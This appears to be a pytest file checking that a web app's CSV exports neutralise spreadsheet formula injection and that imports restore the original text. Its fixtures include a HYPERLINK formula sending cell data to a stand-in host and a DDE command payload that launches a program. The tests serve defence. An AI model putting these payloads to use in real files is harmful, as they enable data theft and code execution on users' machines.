"""CSV injection: text that a spreadsheet would run as a formula is exported with a `'` in
front (numbers stay numbers), and the importers take it off again."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from app.common.csv_output import spreadsheet_safe
from app.common.figures.tables import Column, Table, table_csv_lines
from app.common.importing import unguarded_cell
from app.extensions import db
from app.pilots.importer import OPTIONAL, REQUIRED, import_pilots
from app.pilots.models import Pilot
from tests.factories import create_award, create_council, create_pilot, create_programme

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "+cmd|' /C calc'!A0"


def read(client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def hostile_pilot(lead=None, **values):
    values.setdefault("planned_cost_pence", 1_000_00)
    return create_pilot(
        lead or create_council(code="ABC"),
        title=HYPERLINK,
        location=COMMAND,
        summary="-2+3",
        hypothesis="@SUM(1+1) is what we believe will happen, and we will see it.",
        tags=["-2+3", "@sum(1+1)"],
        status="running",
        **values,
    )


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@sum(1+1)", "'@sum(1+1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1+1", "''=1+1"),  # so that taking one quote off gives back what was typed
        ("'quoted'", "'quoted'"),
        ("Plain = text", "Plain = text"),
        ("", ""),
    ],
)
def test_a_formula_cell_is_written_as_text_and_read_back_as_typed(typed, written):
    assert spreadsheet_safe(typed) == written
    assert unguarded_cell(written) == typed


def test_the_pilots_csv_neutralises_formulas_but_not_money(client):
    pilot = hostile_pilot()
    row = next(r for r in read(client, "/export/pilots.csv") if r["slug"] == pilot.slug)
    assert row["title"] == "'" + HYPERLINK
    assert row["location"] == "'" + COMMAND
    assert row["summary"] == "'-2+3"
    assert row["hypothesis"].startswith("'@SUM(1+1)")
    assert row["tags"] == "'-2+3;@sum(1+1)"
    assert row["planned_cost_gbp"] == "1000.00"


def test_the_awards_csv_neutralises_formulas_but_not_money(client):
    programme = create_programme(name="=1+1", funder_name="@funder")
    award = create_award(programme, hostile_pilot(), reference="-REF-1", amount_awarded_pence=5_00)
    row = read(client, "/export/awards.csv")[0]
    assert row["award_id"] == str(award.id)
    assert (row["programme_name"], row["funder_name"]) == ("'=1+1", "'@funder")
    assert (row["reference"], row["pilot_title"]) == ("'-REF-1", "'" + HYPERLINK)
    assert row["amount_awarded_gbp"] == "5.00"


def test_a_table_csv_neutralises_text_and_keeps_negative_money_a_number():
    table = Table(
        key="t",
        caption="T",
        columns=[Column("name", "Name"), Column("change", "Change", "money")],
        rows=[["=1+1", -12_50], ["-2+3", 3_00]],
    )
    rows = list(csv.reader(io.StringIO("".join(table_csv_lines(table)))))
    assert rows == [["name", "change"], ["'=1+1", "-12.50"], ["'-2+3", "3.00"]]


def importable(exported: str) -> str:
    """The pilots export cut to the importer's columns, cells untouched."""
    rows = list(csv.DictReader(io.StringIO(exported)))
    columns = [c for c in (*REQUIRED, *OPTIONAL) if c in rows[0]]
    out = io.StringIO()
    writer = csv.DictWriter(out, columns, extrasaction="ignore", lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({**row, "slug": row["slug"] + "-copy"})
    return out.getvalue()


def test_an_export_re_imports_unchanged(client):
    lead = create_council(code="ABC")
    partner = create_council(code="DEF")
    # Costs in pounds and pence ("12500.50"), as the export writes them, come back exactly.
    original = hostile_pilot(
        lead, partners=[partner], pillars=["inclusion"], planned_cost_pence=1_250_050
    )
    plain = create_pilot(lead, title="'Quoted' and =plain", location="'=already quoted")
    exported = client.get("/export/pilots.csv").get_data(as_text=True)
    summary = import_pilots(importable(exported))
    assert (summary.created, summary.updated) == (2, 0)
    for pilot in (original, plain):
        copy = db.session.scalars(select(Pilot).where(Pilot.slug == pilot.slug + "-copy")).one()
        for field in (
            "title", "summary", "hypothesis", "location", "tags", "pillars", "status",
            "planned_cost_pence", "start_date", "planned_end_date",
        ):  # fmt: skip
            assert getattr(copy, field) == getattr(pilot, field), field
        assert [c.code for c in copy.partners] == [c.code for c in pilot.partners]
